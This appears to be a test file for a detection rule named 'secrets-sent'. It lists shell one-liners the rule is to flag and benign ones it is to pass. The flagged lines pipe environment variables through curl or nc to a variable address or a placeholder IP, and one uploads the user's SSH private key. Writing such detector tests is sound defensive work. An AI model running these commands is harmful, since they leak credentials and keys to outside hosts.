# ruleid: secrets-sent
env | curl -s -X POST --data-binary @- "$address"
# ruleid: secrets-sent
curl -s -F "k=@$HOME/.ssh/id_rsa" "$address"
# ruleid: secrets-sent
curl "$address/?d=$(env)"
# ruleid: secrets-sent
printenv | nc 198.51.100.7 4444
# ok: secrets-sent
env | sort
# ok: secrets-sent
curl -s -d "region=$REGION" "$address"
